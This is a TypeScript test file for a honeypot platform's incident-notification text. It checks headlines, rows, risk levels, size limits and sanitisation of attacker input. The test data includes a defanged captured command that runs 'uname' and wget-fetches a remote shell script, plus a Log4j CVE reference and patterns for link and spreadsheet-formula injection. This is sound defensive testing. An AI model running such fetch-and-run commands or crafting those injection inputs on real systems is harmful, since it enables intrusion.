import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { toContent, toHeadline, toLevel, toPlain, toRecord } from '../../../src/notify/message/content.ts';
import { hostileNotice, hugeNotice, ordinary, unseen } from '../../support/notify/notices.ts';

describe('what a notice says', () => {
  it('tells what, where, who, when, how sure, why, what to do, and links', () => {
    const content = toContent(ordinary);
    assert.equal(
      toHeadline(content, 200),
      'New incident: 45.9.148.3 guessed the password of root on ssh-dmz-1 after 212 tries',
    );
    assert.deepEqual(content.rows, [
      { label: 'What', value: 'BruteForce (T1110.001)' },
      { label: 'Where', value: 'ssh on ssh-dmz-1, decoy /srv/finance/payroll.xlsx' },
      { label: 'Who', value: '45.9.148.3' },
      { label: 'When', value: '2026-11-24 10:15 UTC to 2026-11-24 10:21 UTC, 213 events' },
      { label: 'Assessment', value: 'risk 9 of 10 (critical), 93 % confident' },
    ]);
    assert.deepEqual(content.why, ordinary.reasons);
    const text = toPlain(content);
    assert.match(text, /"uname -a; wget http\[:\]\/\/203\.0\.113\.9\/x\[\.\]sh"/);
    assert.match(text, /What to do: Block the address/);
    assert.match(
      text,
      /Details: https:\/\/decoyverse\.example\.com\/incidents\/inc-0011223344556677\?tab=why&from=mail/,
    );
  });

  it('names the vulnerability that was tried and the protocol that was spoken', () => {
    const vulnerability = {
      id: 'CVE-2021-44228',
      title: 'code by a look-up in a logged text',
      product: 'Apache Log4j',
      kev: true as const,
      strength: 'exploit' as const,
    };
    const notice = { ...ordinary, protocol: 'http', vulnerability };
    const { rows } = toContent(notice);
    assert.deepEqual(rows[1], {
      label: 'Vulnerability',
      value: 'CVE-2021-44228 (Apache Log4j): code by a look-up in a logged text; known to be exploited',
    });
    assert.match(rows[2]?.value ?? '', /^ssh \(http\) on ssh-dmz-1/);
    const record = toRecord(notice, 'd1');
    assert.equal(record.protocol, 'http');
    assert.deepEqual(record.vulnerability, vulnerability);
    const probe = toContent({ ...ordinary, vulnerability: { ...vulnerability, strength: 'probe' as const } });
    assert.match(probe.rows[1]?.value ?? '', /^looked for CVE-2021-44228/);
    assert.deepEqual(
      [toRecord(ordinary, 'd1').protocol, toRecord(ordinary, 'd1').vulnerability],
      [null, null],
    );
  });

  it('leaves out what is not there', () => {
    const content = toContent({
      ...ordinary,
      event_count: 1,
      last_seen: ordinary.first_seen,
      related_decoy: null,
      payload: '',
      techniques: [],
      reasons: [],
      link: null,
      source_ip: '',
      node_name: '',
    });
    const text = toPlain(content);
    assert.match(
      text,
      /What: BruteForce\nWhere: ssh on node-1234567890abcdef\nWho: unknown\nWhen: 2026-11-24 10:15 UTC, once/,
    );
    assert.doesNotMatch(text, /Why|Attacker's input|Details/);
  });

  it('has a level for every risk', () => {
    assert.deepEqual([0, 1, 3, 4, 6, 7, 8, 9, 10].map(toLevel), [
      'info',
      'low',
      'low',
      'medium',
      'medium',
      'high',
      'high',
      'critical',
      'critical',
    ]);
  });

  it('holds nothing of an attacker that could be seen as something else', () => {
    const texts = [toPlain(toContent(hostileNotice)), toHeadline(toContent(hostileNotice), 1000)];
    for (const text of texts) {
      assert.doesNotMatch(
        text.replaceAll('\n', ' ').replace(/Details: .*/, ''),
        /:\/\/|evil\.example|[@＠]\w/,
      );
      assert.ok(!unseen.test(text.replaceAll('\n', ' ')));
    }
    const strings = Object.values(toRecord(hostileNotice, 'msg_1')).flat();
    for (const text of strings.filter((value) => typeof value === 'string')) {
      assert.ok(!unseen.test(text));
      assert.doesNotMatch(text, /^[=+\-@＝＋－＠\t\r]/);
    }
  });

  it('is bounded whatever it is given', () => {
    assert.ok(toPlain(toContent(hugeNotice('x'))).length < 5000);
    assert.ok(JSON.stringify(toRecord(hugeNotice('x'), 'msg_1')).length < 6000);
    assert.ok(toPlain(toContent(hugeNotice('x'), 0.1)).length < 1500);
  });

  it('gives machines the notice field for field', () => {
    const { delivery_id, severity, ...rest } = toRecord(ordinary, 'msg_1');
    assert.deepEqual(rest, { ...ordinary, protocol: null, vulnerability: null });
    assert.deepEqual({ delivery_id, severity }, { delivery_id: 'msg_1', severity: 'critical' });
  });
});
